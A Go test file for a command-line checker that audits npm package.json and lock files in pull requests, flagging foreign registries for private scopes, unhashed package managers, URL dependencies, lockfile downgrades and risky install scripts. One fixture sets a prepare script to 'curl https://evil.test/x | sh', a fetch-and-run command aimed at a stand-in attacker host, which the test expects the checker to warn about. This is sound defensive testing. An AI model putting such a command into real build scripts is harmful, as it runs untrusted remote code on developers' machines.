package cli_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// What a pull request writes into package.json is graver than what was there, and it cannot take a name out of scopes.
func TestManifestOfAChange(t *testing.T) {
	t.Parallel()
	s := newRepository(t)
	manifest := func(more string) string {
		return fmt.Sprintf("{\n  \"packageManager\": \"pnpm@10.0.0\",\n  \"scripts\": {\"prepare\": \"npx -y husky\"},\n  \"dependencies\": {\"old\": \"https://old.test/old.tgz\"%s}\n}\n", more)
	}
	const lock = `{"lockfileVersion": 3, "packages": {"": {}, "node_modules/@corp/a": {"version": "1.0.0", "resolved": "https://registry.npmmirror.com/@corp/a/-/a-1.0.0.tgz",
"integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="}}}`
	config, err := os.ReadFile(filepath.Join(s.dir, ".goproxy/config.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	s.file("package.json", manifest(""))
	s.file("package-lock.json", lock)
	s.file(".goproxy/config.yaml", string(config)+"scopes: {'@corp': npm.corp.test}\n")
	base := s.commit()
	s.pullRequest(base, s.commit())
	s.run("check", "DIR").want(t, 1, []string{
		"error LCK013 package-lock.json:1:102 @corp/a@1.0.0 has one of your own names and comes from registry.npmmirror.com, not from npm.corp.test",
		"note LCK012 package.json:4:27 old in dependencies comes from old.test",
		"note NPM002 package.json:2:21 packageManager asks for pnpm@10.0.0 without a hash",
		`note NPM005 package.json:3:34 prepare runs "npx husky", which takes`,
	}, nil)

	s.file("package.json", strings.Replace(manifest(`, "new": "https://new.test/new.tgz", "drift": "^1"`), "npx -y husky", "curl https://evil.test/x | sh", 1))
	s.file(".goproxy/config.yaml", string(config))
	s.pullRequest(base, s.commit())
	s.run("check", "DIR").want(t, 1, []string{
		"error LCK013 package-lock.json:1:102 @corp/a@1.0.0",
		"error LCK012 package.json:4:62 new in dependencies comes from new.test, which is named by this change",
		`error LCK008 package.json:4:99 drift is asked for as "^1", and package-lock.json does not have it`,
		`warning NPM005 package.json:3:27 prepare runs "curl https://evil.test/x | sh", which runs what it downloads`,
		"note LCK012 package.json:4:27 old in dependencies",
	}, nil)
}

// What was in package.json before is known again by what stands there.
func TestDiffOfManifests(t *testing.T) {
	t.Parallel()
	s := newRepository(t)
	s.file("package.json", "{\"dependencies\": {\n\"old\": \"http://old.test/old.tgz\"\n}}\n")
	s.commit()
	s.git("branch", "base")
	s.file("package.json", "{\"dependencies\": {\n\"new\": \"http://new.test/old.tgz\",\n\"old\": \"http://old.test/old.tgz\"\n}}\n")
	if got, code := s.statuses("--diff", "base"); code != 1 || !slices.Equal(got, []string{"LCK012 new active", "LCK012 old known"}) {
		t.Errorf("exit %d, %q", code, got)
	}
}

// A change that writes the lock file in a form that does not say who runs a script does not get rid of the question.
func TestLockFileThatSaysLess(t *testing.T) {
	t.Parallel()
	const entry = `"version": "1.0.0", "resolved": "https://npm.official.test/a/-/a-1.0.0.tgz",
"integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="`
	for list, want := range map[string]struct {
		code       int
		was, lower string
	}{
		"":                          {0, "LCK007::1 package runs a script", "warning LCK010 package-lock.json:1:21 package-lock.json is of lockfileVersion 1"},
		"scripts: {npm: [other]}\n": {1, "error LCK007 package-lock.json", "error LCK010 package-lock.json:1:21 package-lock.json is of lockfileVersion 1"},
	} {
		s := newRepository(t)
		config, err := os.ReadFile(filepath.Join(s.dir, ".goproxy/config.yaml"))
		if err != nil {
			t.Fatal(err)
		}
		s.file(".goproxy/config.yaml", string(config)+list)
		s.file("package.json", `{"packageManager": "npm@11.0.0+sha512.aa", "dependencies": {"a": "1.0.0"}}`)
		s.file("package-lock.json", `{"lockfileVersion": 3, "packages": {"": {"dependencies": {"a": "1.0.0"}}, "node_modules/a": {"hasInstallScript": true, `+entry+`}}}`)
		base := s.commit()
		s.file("README", "x")
		s.pullRequest(base, s.commit())
		s.run("check", "DIR").want(t, want.code, []string{want.was}, nil)
		s.file("package-lock.json", `{"lockfileVersion": 1, "dependencies": {"a": {`+entry+`}}}`)
		s.pullRequest(base, s.commit())
		s.run("check", "DIR").want(t, want.code, []string{want.lower}, nil)
	}
}
